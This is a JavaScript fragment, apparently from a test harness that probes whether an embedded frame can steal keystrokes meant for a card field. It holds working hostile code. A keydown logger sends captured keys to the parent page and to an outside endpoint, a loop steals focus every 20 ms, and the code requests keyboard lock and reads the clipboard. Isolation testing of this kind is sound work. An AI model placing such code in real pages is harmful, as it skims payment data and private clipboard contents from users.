// Focus, and with it the keystrokes that were meant for the card field.

attacks["keys"] = () => {
  const caught = [];
  const show = (key) => {
    caught.push(key);
    attempt("page", () => parent.postMessage({ hostile: tag, keys: caught.join("") }, "*"));
    attempt("third", () => fetch(`${hit("keys")}?${encodeURIComponent(caught.join(""))}`, { mode: "no-cors" }));
  };
  const thief = element("input", { type: "text" });
  const take = () => {
    self.focus();
    thief.focus();
  };
  attempt("listen", () => addEventListener("keydown", ({ key }) => show(key), true));
  attempt("focus", take);
  attempt("again", () => setInterval(take, 20));
  attempt("pointer", () => document.documentElement.requestPointerLock());
  attempt("keyboard", () => navigator.keyboard.lock());
  attempt("clipboard", () => navigator.clipboard.readText().then((text) => tell("clipboard", text)));
};
